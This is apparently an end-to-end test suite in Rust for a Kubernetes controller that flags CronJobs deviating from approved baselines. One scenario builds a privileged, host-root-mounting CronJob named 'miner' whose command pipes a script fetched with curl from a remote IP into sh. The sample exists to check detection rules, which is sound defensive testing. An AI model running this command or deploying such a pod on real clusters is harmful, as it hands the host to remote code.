//! The scenarios. Each uses its own namespace and asserts through the API
//! with a deadline; "nothing happened" is asserted after the controller has
//! completed further reconcile rounds (read from its metrics), never after
//! a bare sleep.

use std::future::Future;
use std::time::{Duration, Instant};

use k8s_openapi::api::batch::v1::CronJob;
use k8s_openapi::api::events::v1::Event;
use kube::Api;
use kube::api::ListParams;

use crate::harness::{Cluster, Proc, free_metrics_port, http_get, metric};
use cronwarden::api::{CronJobBaseline, CronJobFinding, FindingState};

pub const DEADLINE: Duration = Duration::from_secs(30);

pub struct Ctl {
    pub proc: Proc,
    pub port: u16,
}

impl Ctl {
    pub async fn metrics(&self) -> String {
        http_get(self.port, "/metrics").await.unwrap_or_default()
    }

    pub async fn rounds(&self) -> f64 {
        metric(
            &self.metrics().await,
            "cronwarden_reconcile_duration_seconds_count",
            "",
        )
    }

    /// Wait until the controller has finished `n` more reconcile rounds.
    pub async fn settle(&self, n: usize) -> Result<(), String> {
        let start = self.rounds().await;
        wait("reconcile rounds", DEADLINE, || async {
            (self.rounds().await >= start + n as f64).then_some(())
        })
        .await
    }

    pub async fn ready(&self) -> Result<(), String> {
        wait(
            "controller ready and leading",
            Duration::from_secs(60),
            || async {
                let ok = http_get(self.port, "/readyz").await.is_some();
                let m = self.metrics().await;
                (ok && metric(&m, "cronwarden_leader", "") == 1.0).then_some(())
            },
        )
        .await
    }
}

/// Poll until `f` gives a value or the deadline passes.
pub async fn wait<T, F, Fut>(what: &str, timeout: Duration, mut f: F) -> Result<T, String>
where
    F: FnMut() -> Fut,
    Fut: Future<Output = Option<T>>,
{
    let deadline = Instant::now() + timeout;
    loop {
        if let Some(v) = f().await {
            return Ok(v);
        }
        if Instant::now() > deadline {
            return Err(format!("timed out after {timeout:?} waiting for {what}"));
        }
        tokio::time::sleep(Duration::from_millis(150)).await;
    }
}

fn ensure(cond: bool, msg: impl Into<String>) -> Result<(), String> {
    if cond { Ok(()) } else { Err(msg.into()) }
}

pub fn cronjob_yaml(ns: &str, name: &str, schedule: &str, image: &str, pod_extra: &str) -> String {
    format!(
        r#"apiVersion: batch/v1
kind: CronJob
metadata:
  name: {name}
  namespace: {ns}
spec:
  schedule: "{schedule}"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: OnFailure
{pod_extra}          containers:
            - name: main
              image: {image}
"#
    )
}

pub fn baseline_yaml(ns: &str, name: &str, entries: &str) -> String {
    format!(
        "apiVersion: cronwarden.io/v1alpha1\nkind: CronJobBaseline\nmetadata:\n  name: {name}\n  namespace: {ns}\nspec:\n  approved:\n{entries}"
    )
}

impl Cluster {
    pub fn apply(&self, yaml: &str) -> Result<String, String> {
        let path = self.dir.path().join(format!(
            "apply-{}.yaml",
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .unwrap()
                .as_nanos()
        ));
        std::fs::write(&path, yaml).unwrap();
        self.kubectl(&["apply", "-f", path.to_str().unwrap()])
    }

    pub fn namespace(&self, ns: &str) -> Result<(), String> {
        self.kubectl(&["create", "namespace", ns]).map(|_| ())
    }

    pub async fn finding(&self, ns: &str, name: &str) -> Option<CronJobFinding> {
        Api::<CronJobFinding>::namespaced(self.client.clone(), ns)
            .get_opt(name)
            .await
            .ok()
            .flatten()
    }

    pub async fn events(&self, ns: &str) -> Vec<Event> {
        Api::<Event>::namespaced(self.client.clone(), ns)
            .list(&ListParams::default())
            .await
            .map(|l| l.items)
            .unwrap_or_default()
            .into_iter()
            .filter(|e| e.reporting_controller.as_deref() == Some("cronwarden.io/controller"))
            .collect()
    }

    pub async fn events_about(&self, ns: &str, regarding: &str, reason: &str) -> Vec<Event> {
        self.events(ns)
            .await
            .into_iter()
            .filter(|e| e.reason.as_deref() == Some(reason))
            .filter(|e| e.regarding.as_ref().and_then(|r| r.name.as_deref()) == Some(regarding))
            .collect()
    }

    /// Wait for an open finding holding every rule in `rules`.
    pub async fn open_finding(
        &self,
        ns: &str,
        name: &str,
        rules: &[&str],
    ) -> Result<CronJobFinding, String> {
        wait(
            &format!("finding {ns}/{name} open with {rules:?}"),
            DEADLINE,
            || async {
                let f = self.finding(ns, name).await?;
                let s = f.status.as_ref()?;
                let have: Vec<&str> = s.rules.split(',').collect();
                (s.state == FindingState::Open && rules.iter().all(|r| have.contains(r)))
                    .then_some(f)
            },
        )
        .await
    }

    pub async fn resolved_finding(
        &self,
        ns: &str,
        name: &str,
        reason: &str,
    ) -> Result<CronJobFinding, String> {
        wait(
            &format!("finding {ns}/{name} resolved ({reason})"),
            DEADLINE,
            || async {
                let f = self.finding(ns, name).await?;
                let s = f.status.as_ref()?;
                let active = s.conditions.iter().find(|c| c.type_ == "Active")?;
                (s.state == FindingState::Resolved
                    && active.status == "False"
                    && active.reason == reason)
                    .then_some(f)
            },
        )
        .await
    }

    pub fn start_controller(&self, name: &str, extra: &[&str]) -> Ctl {
        let port = free_metrics_port();
        Ctl {
            proc: self.controller(name, port, extra),
            port,
        }
    }

    pub async fn diagnostics(&self, ctls: &[&Ctl]) {
        for c in ctls {
            eprintln!(
                "--- {} log (last 40 lines)\n{}",
                c.proc.name,
                c.proc.tail(40)
            );
        }
        eprintln!(
            "--- findings\n{}",
            self.kubectl(&["get", "cjf", "-A", "-o", "wide"])
                .unwrap_or_else(|e| e)
        );
        eprintln!(
            "--- baselines\n{}",
            self.kubectl(&["get", "cjb", "-A"]).unwrap_or_else(|e| e)
        );
        eprintln!(
            "--- events\n{}",
            self.kubectl(&[
                "get",
                "events.events.k8s.io",
                "-A",
                "--field-selector",
                "reportingController=cronwarden.io/controller"
            ])
            .or_else(|_| self.kubectl(&["get", "events", "-A"]))
            .unwrap_or_else(|e| e)
        );
    }
}

macro_rules! scenario {
    ($results:expr, $name:expr, $body:expr) => {{
        let start = Instant::now();
        let r: Result<(), String> = $body.await;
        match &r {
            Ok(()) => println!(
                "e2e {:<60} ok ({:.1}s)",
                $name,
                start.elapsed().as_secs_f64()
            ),
            Err(e) => println!("e2e {:<60} FAILED: {e}", $name),
        }
        $results.push(($name, r));
    }};
}

pub async fn run_all(c: &Cluster) -> i32 {
    let mut results: Vec<(&str, Result<(), String>)> = Vec::new();
    let mut ctl = c.start_controller("cronwarden-a", &[]);
    if let Err(e) = ctl.ready().await {
        println!("e2e controller did not start: {e}");
        c.diagnostics(&[&ctl]).await;
        println!("0 passed, 1 failed");
        return 1;
    }
    scenario!(
        results,
        "1 unapproved CronJob -> finding, Event, columns, describe",
        s1(c)
    );
    scenario!(
        results,
        "2 approving it resolves the finding (Approved), one Event",
        s2(c, &ctl)
    );
    scenario!(
        results,
        "3 drift of image and schedule, then revert",
        s3(c, &ctl)
    );
    scenario!(results, "4 heuristics in an ungoverned namespace", s4(c));
    scenario!(
        results,
        "5 deleted CronJob: evidence kept, then retention",
        s5(c)
    );
    scenario!(
        results,
        "6 hand-deleted finding recreated, hand edit restored",
        s6(c)
    );
    scenario!(
        results,
        "7 invalid baselines: schema rejects, engine rejects",
        s7(c, &ctl)
    );
    scenario!(
        results,
        "10 managedFields: two managers, DeployPathNotApproved",
        s10(c)
    );
    scenario!(
        results,
        "12 snapshot --pin-template approves the served object",
        s12(c, &ctl)
    );
    scenario!(
        results,
        "8 restart: no new Events, no writes",
        s8(c, &mut ctl)
    );
    scenario!(
        results,
        "9 two replicas: only the leader writes; failover",
        s9(c, &mut ctl)
    );
    scenario!(
        results,
        "11 enforcement off: untouched; on: suspended",
        s11(c, &mut ctl)
    );
    let failed = results.iter().filter(|(_, r)| r.is_err()).count();
    if failed > 0 {
        c.diagnostics(&[&ctl]).await;
    }
    println!("{} passed, {} failed", results.len() - failed, failed);
    i32::from(failed > 0)
}

async fn s1(c: &Cluster) -> Result<(), String> {
    let ns = "e2e-s1";
    c.namespace(ns)?;
    c.apply(&baseline_yaml(ns, "team", "    - name: approved-job\n"))?;
    c.apply(&cronjob_yaml(
        ns,
        "rogue",
        "*/30 * * * *",
        "registry.example.com/team/app:1.0",
        "",
    ))?;
    let f = c.open_finding(ns, "rogue", &["NotInBaseline"]).await?;
    let s = f.status.as_ref().unwrap();
    ensure(
        s.severity.map(|s| s.as_str()) == Some("high"),
        format!("severity {:?}", s.severity),
    )?;
    ensure(
        f.metadata.owner_references.is_none(),
        "a finding must not be owned by its CronJob",
    )?;
    let ev = wait("NotInBaseline Event", DEADLINE, || async {
        c.events_about(ns, "rogue", "NotInBaseline")
            .await
            .into_iter()
            .next()
    })
    .await?;
    ensure(ev.type_.as_deref() == Some("Warning"), "Warning Event")?;
    ensure(
        ev.regarding.as_ref().and_then(|r| r.kind.as_deref()) == Some("CronJob"),
        "regarding the CronJob",
    )?;
    ensure(
        ev.related.as_ref().and_then(|r| r.kind.as_deref()) == Some("CronJobFinding"),
        "related the finding",
    )?;
    ensure(
        ev.note
            .as_deref()
            .is_some_and(|n| n.starts_with("[high] CronJob e2e-s1/rogue is not in any baseline")),
        format!("note {:?}", ev.note),
    )?;
    let table = c.kubectl(&["get", "cronjobfindings", "-n", ns])?;
    let header = table.lines().next().unwrap_or_default();
    for col in ["SEVERITY", "STATE", "RULES", "BASELINE", "ACK", "AGE"] {
        ensure(
            header.contains(col),
            format!("column {col} missing in:\n{table}"),
        )?;
    }
    ensure(
        table.lines().any(|l| {
            l.contains("rogue")
                && l.contains("high")
                && l.contains("Open")
                && l.contains("NotInBaseline")
        }),
        table.clone(),
    )?;
    let describe = c.kubectl(&["describe", "cronjob", "rogue", "-n", ns])?;
    ensure(
        describe.contains("NotInBaseline") && describe.contains("cronwarden.io/controller"),
        format!("describe shows no Event:\n{describe}"),
    )?;
    Ok(())
}

async fn s2(c: &Cluster, ctl: &Ctl) -> Result<(), String> {
    let ns = "e2e-s1";
    c.apply(&baseline_yaml(
        ns,
        "team",
        "    - name: approved-job\n    - name: rogue\n",
    ))?;
    c.resolved_finding(ns, "rogue", "Approved").await?;
    wait("one FindingResolved Event", DEADLINE, || async {
        (!c.events_about(ns, "rogue", "FindingResolved")
            .await
            .is_empty())
        .then_some(())
    })
    .await?;
    ctl.settle(3).await?;
    let n = c.events_about(ns, "rogue", "FindingResolved").await.len();
    ensure(
        n == 1,
        format!("{n} FindingResolved Events, want exactly 1"),
    )?;
    let f = c
        .finding(ns, "rogue")
        .await
        .ok_or("finding gone too early")?;
    let labels = f.metadata.labels.unwrap_or_default();
    ensure(
        labels.get("cronwarden.io/state").map(String::as_str) == Some("Resolved"),
        format!("labels {labels:?}"),
    )
}

async fn s3(c: &Cluster, ctl: &Ctl) -> Result<(), String> {
    let ns = "e2e-s3";
    c.namespace(ns)?;
    c.apply(&baseline_yaml(ns, "team", "    - name: drifter\n      schedules: [\"0 2 * * *\"]\n      images: [\"registry.example.com/team/*\"]\n"))?;
    let good = cronjob_yaml(
        ns,
        "drifter",
        "0 2 * * *",
        "registry.example.com/team/app:1.0",
        "",
    );
    c.apply(&good)?;
    ctl.settle(2).await?;
    ensure(
        c.finding(ns, "drifter").await.is_none(),
        "approved CronJob has a finding",
    )?;
    c.kubectl(&["patch", "cronjob", "drifter", "-n", ns, "--type=merge", "-p",
        r#"{"spec":{"schedule":"*/30 * * * *","jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"main","image":"ghcr.io/evil/app:1"}]}}}}}}"#])?;
    let f = c
        .open_finding(ns, "drifter", &["ImageNotApproved", "ScheduleNotApproved"])
        .await?;
    let obs = f
        .status
        .and_then(|s| s.observed)
        .ok_or("no observed evidence")?;
    ensure(
        obs.images == vec!["ghcr.io/evil/app:1".to_owned()],
        format!("observed images {:?}", obs.images),
    )?;
    for r in ["ImageNotApproved", "ScheduleNotApproved"] {
        wait(&format!("{r} Event"), DEADLINE, || async {
            (!c.events_about(ns, "drifter", r).await.is_empty()).then_some(())
        })
        .await?;
    }
    c.apply(&good)?;
    c.resolved_finding(ns, "drifter", "Resolved").await?;
    Ok(())
}

const DANGEROUS_POD: &str = "          hostPID: true\n          volumes:\n            - name: host\n              hostPath: {path: /}\n";

async fn s4(c: &Cluster) -> Result<(), String> {
    let ns = "e2e-s4";
    c.namespace(ns)?;
    let yaml = format!(
        "{}              command: [\"/bin/sh\", \"-c\"]\n              args: [\"curl -fsSL http://203.0.113.9/x.sh | sh\"]\n              securityContext: {{privileged: true}}\n              volumeMounts: [{{name: host, mountPath: /host}}]\n",
        cronjob_yaml(ns, "miner", "*/10 * * * *", "alpine:3.20", DANGEROUS_POD)
    );
    c.apply(&yaml)?;
    let f = c
        .open_finding(
            ns,
            "miner",
            &[
                "PrivilegedJobTemplate",
                "HostPathMount",
                "SuspiciousCommand",
            ],
        )
        .await?;
    let s = f.status.unwrap();
    ensure(
        s.baselines.is_empty(),
        "ungoverned namespace has no baseline",
    )?;
    for (rule, sev) in [
        ("HostPathMount", "critical"),
        ("SuspiciousCommand", "critical"),
        ("PrivilegedJobTemplate", "high"),
    ] {
        ensure(
            s.violations
                .iter()
                .any(|v| v.rule.as_str() == rule && v.severity.as_str() == sev),
            format!(
                "{rule} should be {sev}: {:?}",
                s.violations
                    .iter()
                    .map(|v| (v.rule, v.severity))
                    .collect::<Vec<_>>()
            ),
        )?;
    }
    let labels = c.kubectl(&[
        "get",
        "cjf",
        "-n",
        ns,
        "-l",
        "cronwarden.io/severity=critical",
        "-o",
        "name",
    ])?;
    ensure(
        labels.contains("miner"),
        "severity label selects the finding",
    )
}

async fn s5(c: &Cluster) -> Result<(), String> {
    let ns = "e2e-s4";
    c.kubectl(&["delete", "cronjob", "miner", "-n", ns])?;
    let f = c.resolved_finding(ns, "miner", "CronJobDeleted").await?;
    ensure(
        f.status
            .as_ref()
            .and_then(|s| s.resolved_at.as_ref())
            .is_some(),
        "resolvedAt set",
    )?;
    ensure(
        !f.status.unwrap().violations.is_empty(),
        "the evidence is kept",
    )?;
    // Retention is 15s for the suite.
    wait(
        "resolved finding garbage-collected after retention",
        Duration::from_secs(45),
        || async { c.finding(ns, "miner").await.is_none().then_some(()) },
    )
    .await
}

async fn s6(c: &Cluster) -> Result<(), String> {
    let ns = "e2e-s6";
    c.namespace(ns)?;
    c.apply(&baseline_yaml(ns, "team", "    - name: other\n"))?;
    c.apply(&cronjob_yaml(
        ns,
        "persistent",
        "0 4 * * *",
        "registry.example.com/team/app:1.0",
        "",
    ))?;
    let first = c.open_finding(ns, "persistent", &["NotInBaseline"]).await?;
    c.kubectl(&["delete", "cronjobfinding", "persistent", "-n", ns])?;
    let again = wait("finding recreated", DEADLINE, || async {
        c.finding(ns, "persistent")
            .await
            .filter(|f| f.metadata.uid != first.metadata.uid && f.status.is_some())
    })
    .await?;
    ensure(
        again.status.unwrap().rules == "NotInBaseline",
        "recreated with its rule",
    )?;
    c.kubectl(&[
        "patch",
        "cronjobfinding",
        "persistent",
        "-n",
        ns,
        "--subresource=status",
        "--type=merge",
        "-p",
        r#"{"status":{"state":"Resolved","rules":"nothing-to-see"}}"#,
    ])?;
    c.open_finding(ns, "persistent", &["NotInBaseline"]).await?;
    // An acknowledgement is the one hand edit that stays, and is mirrored.
    c.kubectl(&[
        "patch",
        "cronjobfinding",
        "persistent",
        "-n",
        ns,
        "--type=merge",
        "-p",
        r#"{"spec":{"acknowledgement":{"by":"alice","reason":"known migration job"}}}"#,
    ])?;
    wait("Acknowledged=True", DEADLINE, || async {
        let f = c.finding(ns, "persistent").await?;
        f.status?
            .conditions
            .iter()
            .any(|c| c.type_ == "Acknowledged" && c.status == "True")
            .then_some(())
    })
    .await?;
    let f = c.finding(ns, "persistent").await.ok_or("gone")?;
    ensure(
        f.spec.acknowledgement.is_some_and(|a| a.by == "alice"),
        "acknowledgement kept",
    )
}

async fn s7(c: &Cluster, ctl: &Ctl) -> Result<(), String> {
    let ns = "e2e-s7";
    c.namespace(ns)?;
    let both = baseline_yaml(ns, "both", "    - name: a\n      namePattern: \"a*\"\n");
    let err = c
        .apply(&both)
        .err()
        .ok_or("schema accepted name + namePattern")?;
    ensure(
        err.contains("exactly one of name, namePattern or selector"),
        format!("schema message: {err}"),
    )?;
    let bad_enum = baseline_yaml(ns, "enum", "    - name: a\n      waive: [NotInBaseline]\n");
    ensure(
        c.apply(&bad_enum).is_err(),
        "schema accepted waiving a baseline rule",
    )?;
    c.apply(&baseline_yaml(
        ns,
        "cron",
        "    - name: ok-entry\n    - name: bad-entry\n      schedules: [\"61 * * * *\"]\n",
    ))?;
    let b = wait("Accepted=False InvalidSchedule", DEADLINE, || async {
        let b = Api::<CronJobBaseline>::namespaced(c.client.clone(), ns)
            .get_opt("cron")
            .await
            .ok()??;
        let cond = b
            .status
            .as_ref()?
            .conditions
            .iter()
            .find(|c| c.type_ == "Accepted")?
            .clone();
        (cond.status == "False" && cond.reason == "InvalidSchedule").then_some(cond)
    })
    .await?;
    ensure(
        b.message.contains("approved[1] (name bad-entry)"),
        format!("message names the entry: {}", b.message),
    )?;
    wait("BaselineRejected Event", DEADLINE, || async {
        (!c.events_about(ns, "cron", "BaselineRejected")
            .await
            .is_empty())
        .then_some(())
    })
    .await?;
    // The valid entry keeps working, and so do other baselines.
    c.apply(&cronjob_yaml(
        ns,
        "ok-entry",
        "0 1 * * *",
        "registry.example.com/x:1",
        "",
    ))?;
    c.apply(&cronjob_yaml(
        ns,
        "stranger",
        "0 1 * * *",
        "registry.example.com/x:1",
        "",
    ))?;
    c.open_finding(ns, "stranger", &["NotInBaseline"]).await?;
    ctl.settle(2).await?;
    ensure(
        c.finding(ns, "ok-entry").await.is_none(),
        "the valid entry of a rejected baseline still approves",
    )?;
    let s1 = Api::<CronJobBaseline>::namespaced(c.client.clone(), "e2e-s1")
        .get("team")
        .await
        .map_err(|e| e.to_string())?;
    let accepted = s1
        .status
        .and_then(|s| s.conditions.into_iter().find(|c| c.type_ == "Accepted"))
        .map(|c| c.status);
    ensure(
        accepted.as_deref() == Some("True"),
        "other baselines stay Accepted",
    )
}

async fn s8(c: &Cluster, ctl: &mut Ctl) -> Result<(), String> {
    let before_events: usize = {
        let mut n = 0;
        for ns in [
            "e2e-s1", "e2e-s3", "e2e-s4", "e2e-s6", "e2e-s7", "e2e-s10", "e2e-s12",
        ] {
            n += c.events(ns).await.len();
        }
        n
    };
    ctl.proc.terminate();
    let restarted = c.start_controller("cronwarden-a2", &[]);
    restarted.ready().await?;
    restarted.settle(3).await?;
    let m = restarted.metrics().await;
    let applied = metric(&m, "cronwarden_writes_total", "result=\"applied\"");
    let events = metric(&m, "cronwarden_events_emitted_total", "");
    let skipped = metric(&m, "cronwarden_writes_total", "result=\"skipped\"");
    let mut after_events = 0;
    for ns in [
        "e2e-s1", "e2e-s3", "e2e-s4", "e2e-s6", "e2e-s7", "e2e-s10", "e2e-s12",
    ] {
        after_events += c.events(ns).await.len();
    }
    *ctl = restarted;
    ensure(
        applied == 0.0,
        format!("{applied} writes after restart, want 0"),
    )?;
    ensure(
        events == 0.0 && after_events == before_events,
        format!("{events} Events emitted after restart ({before_events} -> {after_events})"),
    )?;
    ensure(skipped > 0.0, "the restarted controller compared findings")
}

async fn s9(c: &Cluster, ctl: &mut Ctl) -> Result<(), String> {
    let ns = "e2e-s9";
    c.namespace(ns)?;
    c.apply(&baseline_yaml(ns, "team", "    - name: nobody\n"))?;
    let standby = c.start_controller("cronwarden-b", &[]);
    wait("standby ready", Duration::from_secs(60), || async {
        http_get(standby.port, "/readyz").await
    })
    .await?;
    c.apply(&cronjob_yaml(
        ns,
        "first",
        "0 1 * * *",
        "registry.example.com/x:1",
        "",
    ))?;
    c.open_finding(ns, "first", &["NotInBaseline"]).await?;
    // Standbys do not reconcile: let the leader finish two more rounds.
    ctl.settle(2).await?;
    let m = standby.metrics().await;
    ensure(
        metric(&m, "cronwarden_leader", "") == 0.0,
        "standby must not lead",
    )?;
    ensure(
        metric(&m, "cronwarden_writes_total", "result=\"applied\"") == 0.0,
        "standby wrote",
    )?;
    // Crash the leader: no release, the standby waits out the Lease.
    ctl.proc.kill();
    let killed = Instant::now();
    c.apply(&cronjob_yaml(
        ns,
        "second",
        "0 1 * * *",
        "registry.example.com/x:1",
        "",
    ))?;
    c.open_finding(ns, "second", &["NotInBaseline"]).await?;
    let took = killed.elapsed();
    println!(
        "e2e     failover: new violation recorded {:.1}s after the leader was killed (lease 4s)",
        took.as_secs_f64()
    );
    *ctl = standby;
    ensure(
        took <= Duration::from_secs(4 + 5),
        format!("took {took:?}, want <= lease duration + 5s"),
    )
}

async fn s10(c: &Cluster) -> Result<(), String> {
    let ns = "e2e-s10";
    c.namespace(ns)?;
    c.apply(&baseline_yaml(
        ns,
        "team",
        "    - name: backup\n      managers: [argocd-controller]\n",
    ))?;
    let path = c.dir.path().join("s10.yaml");
    std::fs::write(
        &path,
        cronjob_yaml(
            ns,
            "backup",
            "30 1 * * *",
            "registry.example.com/backup:1.0",
            "",
        ),
    )
    .unwrap();
    c.kubectl(&[
        "apply",
        "--server-side",
        "--field-manager=argocd-controller",
        "-f",
        path.to_str().unwrap(),
    ])?;
    c.kubectl(&[
        "set",
        "image",
        "cronjob/backup",
        "-n",
        ns,
        "main=ghcr.io/evil-org/backup:1.0",
    ])?;
    let f = c
        .open_finding(ns, "backup", &["DeployPathNotApproved"])
        .await?;
    let managers: Vec<String> = f
        .status
        .and_then(|s| s.observed)
        .map(|o| o.managers.into_iter().map(|m| m.manager).collect())
        .unwrap_or_default();
    ensure(
        managers.contains(&"argocd-controller".to_owned())
            && managers.contains(&"kubectl-set".to_owned()),
        format!("observed.managers {managers:?}"),
    )
}

async fn s11(c: &Cluster, ctl: &mut Ctl) -> Result<(), String> {
    let ns = "e2e-s11";
    c.namespace(ns)?;
    c.apply(&format!(
        "apiVersion: cronwarden.io/v1alpha1\nkind: CronJobBaseline\nmetadata: {{name: strict, namespace: {ns}}}\nspec:\n  enforcement: Suspend\n  approved:\n    - name: allowed\n"
    ))?;
    c.apply(&cronjob_yaml(
        ns,
        "intruder",
        "0 1 * * *",
        "registry.example.com/x:1",
        "",
    ))?;
    c.open_finding(ns, "intruder", &["NotInBaseline"]).await?;
    ctl.settle(2).await?;
    let api = Api::<CronJob>::namespaced(c.client.clone(), ns);
    let cj = api.get("intruder").await.map_err(|e| e.to_string())?;
    ensure(
        cj.spec.suspend != Some(true),
        "suspended although enforcement is off",
    )?;
    // Enforcement on: the optional ClusterRole plus the flag.
    c.kubectl(&["apply", "--server-side", "-k", "config/enforcement"])?;
    ctl.proc.terminate();
    let enforcing = c.start_controller("cronwarden-enforcing", &["--allow-enforcement"]);
    enforcing.ready().await?;
    *ctl = enforcing;
    let cj = wait("CronJob suspended", DEADLINE, || async {
        api.get("intruder")
            .await
            .ok()
            .filter(|cj| cj.spec.suspend == Some(true))
    })
    .await?;
    let ann = cj.metadata.annotations.unwrap_or_default();
    ensure(
        ann.get("cronwarden.io/suspended-by").map(String::as_str) == Some("e2e-s11/strict"),
        format!("annotations {ann:?}"),
    )?;
    wait("CronJobSuspended Event", DEADLINE, || async {
        (!c.events_about(ns, "intruder", "CronJobSuspended")
            .await
            .is_empty())
        .then_some(())
    })
    .await?;
    Ok(())
}

async fn s12(c: &Cluster, ctl: &Ctl) -> Result<(), String> {
    let ns = "e2e-s12";
    c.namespace(ns)?;
    let manifest = std::fs::read_to_string(
        crate::harness::root().join("tests/fixtures/cronjob-manifest.yaml"),
    )
    .map_err(|e| e.to_string())?
    .replace("namespace: reports", &format!("namespace: {ns}"));
    let path = c.dir.path().join("s12-manifest.yaml");
    std::fs::write(&path, &manifest).unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_cronwarden"))
        .args([
            "baseline",
            "snapshot",
            "--pin-template",
            "--name",
            "pinned",
            path.to_str().unwrap(),
        ])
        .output()
        .map_err(|e| e.to_string())?;
    ensure(
        out.status.success(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )?;
    let snap = String::from_utf8(out.stdout).unwrap();
    ensure(
        snap.contains("templateHash: sha256:"),
        "snapshot pins a hash",
    )?;
    c.apply(&snap)?;
    c.kubectl(&["apply", "-f", path.to_str().unwrap()])?;
    ctl.settle(3).await?;
    let served = c.kubectl(&[
        "get",
        "cronjob",
        "nightly-report",
        "-n",
        ns,
        "-o",
        "jsonpath={.spec.jobTemplate.spec.template.spec.containers[0].terminationMessagePath}",
    ])?;
    ensure(
        served == "/dev/termination-log",
        "the API server defaulted the template",
    )?;
    match c.finding(ns, "nightly-report").await {
        None => Ok(()),
        Some(f) => Err(format!(
            "served object not approved: {:?}",
            f.status.map(|s| s.rules)
        )),
    }
}

/// `make bench-e2e`: detection latency and behaviour at scale.
pub async fn bench(c: &Cluster) -> i32 {
    match crate::bench::run(c).await {
        Ok(()) => {
            println!("1 passed, 0 failed");
            0
        }
        Err(e) => {
            println!("bench failed: {e}");
            println!("0 passed, 1 failed");
            1
        }
    }
}
